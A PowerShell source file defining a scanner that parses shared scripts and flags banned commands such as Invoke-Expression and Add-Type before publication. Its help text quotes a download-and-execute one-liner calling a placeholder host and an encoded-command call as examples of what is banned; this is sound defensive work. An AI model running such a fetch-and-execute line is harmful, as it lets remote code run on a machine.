function Test-ScriptContent {
    <#
    .SYNOPSIS
        Flags risky constructs in a PowerShell script before it is published to the share.
    .DESCRIPTION
        Looks for constructs the review board does not allow in shared scripts, for example:

            Invoke-Expression $userInput
            IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/a.ps1')
            powershell.exe -EncodedCommand <base64>

        The examples above appear in this help text only; nothing is executed.
    .PARAMETER Path
        Script file to inspect.
    .EXAMPLE
        Test-ScriptContent -Path .\Deploy.ps1
    #>
    [CmdletBinding()]
    [OutputType([pscustomobject])]
    param(
        [Parameter(Mandatory = $true)]
        [ValidateScript({ Test-Path -Path $_ -PathType Leaf })]
        [string]$Path
    )

    $tokens = $null
    $parseErrors = $null
    $ast = [System.Management.Automation.Language.Parser]::ParseFile((Resolve-Path -Path $Path).ProviderPath, [ref]$tokens, [ref]$parseErrors)
    if ($parseErrors.Count -gt 0) {
        Write-Warning -Message "$Path has $($parseErrors.Count) parse errors"
    }

    $banned = 'Invoke-Expression', 'iex', 'Add-Type'
    $commands = $ast.FindAll({ param($node) $node -is [System.Management.Automation.Language.CommandAst] }, $true)
    foreach ($command in $commands) {
        $name = $command.GetCommandName()
        if ($name -and $banned -contains $name) {
            [pscustomobject]@{
                Path    = $Path
                Line    = $command.Extent.StartLineNumber
                Command = $name
            }
        }
    }
}

Get-ChildItem -Path '\\fileserver\scripts$\incoming' -Filter '*.ps1' | ForEach-Object {
    Test-ScriptContent -Path $_.FullName
}
